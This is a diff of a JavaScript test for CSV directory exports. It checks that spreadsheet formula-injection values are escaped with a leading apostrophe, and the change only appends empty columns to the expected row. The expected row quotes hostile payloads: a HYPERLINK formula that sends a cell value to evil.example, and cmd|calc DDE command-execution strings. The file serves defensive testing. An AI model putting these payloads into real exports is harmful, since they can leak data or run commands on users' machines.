@@ -101,7 +101,9 @@ describe('directory exports and formulas', () => {
       row,
       'formel,"\'=HYPERLINK(""https://evil.example"",""Klick"")","eAkte;\'@SUM(1);\'+x","\'+Feld",' +
         '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Olfen"")","\'@SUM(1+1)*cmd|calc!A0",' +
-        '"\'-2+3+cmd|calc!a0@evil.example","\'+anna@evil.example",idea,"Erste Zeile\n\'-2+3+cmd|calc!A0\n\'=1+1"\n',
+        '"\'-2+3+cmd|calc!a0@evil.example","\'+anna@evil.example",idea,"Erste Zeile\n\'-2+3+cmd|calc!A0\n\'=1+1"' +
+        // The fact sheet's columns, empty, and not public.
+        ',,,,,,,no\n',
     );
   });
 
